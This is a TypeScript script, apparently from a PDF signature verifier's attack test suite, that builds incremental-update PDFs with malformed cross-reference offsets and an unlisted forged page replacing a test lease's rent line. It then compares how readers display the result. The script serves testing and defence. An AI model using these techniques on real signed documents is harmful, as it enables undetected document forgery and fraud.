// X3 (held, a canary): an LTV update (the catalog with a /DSS) whose table entry for the catalog points at whitespace before its
// `N G obj` (accepted: "every reader's tokenizer skips it"), with a forged page 1 content object left unlisted after
// it. A reader that does not skip the whitespace rebuilds its table by scanning, and the last `5 0 obj` wins.
//   npx tsx scripts/attack-s11/offset-whitespace.ts <mode>
// modes: honest (the entry points at `N G obj`); ws (two line feeds before it, the entry points at the first).
import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { save, show, tool, verify, work } from "../attack36/lib.js";
import { lastStartXref } from "../generator/pdf-bytes.js";
import { concat, latin1Bytes, latin1Text } from "../generator/der.js";
import { pdfiumAndPdfjs, printReaders } from "./lib.js";

const mode = process.argv[2] ?? "ws";
// Other forms the reader accepts, each with the same unlisted forged object after it: eol-startxref (startxref names
// the EOL before `xref`), prev-eol (/Prev names the EOL before the sealed `xref`), size-low (/Size below the update's
// own objects), sp-cr (entries end in SP CR), nul-tail (NUL and form feed after the last %%EOF), comment (a comment
// between the trailer and startxref).
const QUIRKS = ["eol-startxref", "prev-eol", "size-low", "sp-cr", "nul-tail", "comment"];
const gap = { honest: 0, ws: 2, sp: 3 }[mode] ?? (QUIRKS.includes(mode) ? 0 : undefined);
if (gap === undefined) throw new Error(`mode: honest|ws|sp|${QUIRKS.join("|")}, not ${mode}`);
const sample = "samples/valid/archive.pdf";
const base = new Uint8Array(readFileSync(sample));
const prev = lastStartXref(base);
const tail = latin1Text(base.subarray(prev));
const size = Number(/\/Size\s*(\d+)/.exec(tail)![1]);
const get = (k: string) => new RegExp(`/${k}\\s*(\\d+\\s+\\d+\\s+R|\\[[^\\]]*\\])`).exec(tail)![1]!;
const root = Number(/^(\d+)/.exec(get("Root"))![1]);
const catalog = tool("qpdf", [`--show-object=${root}`, sample]).trim();
const CONTENT = 5;
const lines = [
  "Lejekontrakt",
  "",
  "Udlejer: Sealcheck Test Ejendomme ApS",
  "Lejer: Karen Test Jensen og Lars Test Nielsen",
  "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
  "Husleje: 1 kr. pr. maaned",
  "",
  "(Testdokument - ikke gyldigt)",
];
const ops = deflateSync(Buffer.from(lines.map((l, i) => `BT /F1 ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`).join("\n"), "latin1"));
let at = base.length;
const parts: Uint8Array[] = [base];
const push = (b: Uint8Array) => {
  parts.push(b);
  at += b.length;
};
const dss = size;
const dssAt = at;
push(latin1Bytes(`${dss} 0 obj\n<< /Type /DSS /Certs [] >>\nendobj\n`));
const catAt = at;
push(latin1Bytes(`${mode === "sp" ? "   " : "\n".repeat(gap)}${root} 0 obj\n${catalog.replace(/>>\s*$/, ` /DSS ${dss} 0 R >>`)}\nendobj\n`));
push(concat(latin1Bytes(`${CONTENT} 0 obj\n<< /Filter /FlateDecode /Length ${ops.length} >>\nstream\n`), ops, latin1Bytes("\nendstream\nendobj\n")));
const e = (o: number) => `${String(o).padStart(10, "0")} 00000 n${mode === "sp-cr" ? " \r" : " \n"}`;
const xrefAt = at;
const prevAt = mode === "prev-eol" && base[prev - 1] === 0x0a ? prev - 1 : prev;
const sizeV = mode === "size-low" ? size : size + 1;
push(
  latin1Bytes(
    `xref\n${root} 1\n${e(catAt)}${dss} 1\n${e(dssAt)}trailer\n<< /Size ${sizeV} /Root ${get("Root")} /Info ${get("Info")} /ID ${get("ID")} /Prev ${prevAt} >>\n${mode === "comment" ? "%a16 comment\n" : ""}startxref\n${mode === "eol-startxref" ? xrefAt - 1 : xrefAt}\n%%EOF\n${mode === "nul-tail" ? "\0\0\f\0" : ""}`,
  ),
);
if (mode === "eol-startxref" && parts[parts.length - 2]![parts[parts.length - 2]!.length - 1] !== 0x0a) throw new Error("no EOL before xref");
const file = save(work(`s11-ws-${mode}`), "archive.pdf", concat(...parts));
console.log(`wrote ${file} (${mode}): the catalog's entry points ${gap} byte(s) before '${root} 0 obj'; an unlisted forged ${CONTENT} 0 obj follows`);
const v = verify(file);
show(mode, v);
const rent = (t: string) =>
  t
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .map((l) => l.trim())
    .join(" / ") || "(no rent line)";
console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
printReaders(file);
for (const l of pdfiumAndPdfjs(file, 300).filter((x) => /PDFium|pdf.js|p1:|not run/.test(x))) console.log(`== ${l.trim()}`);
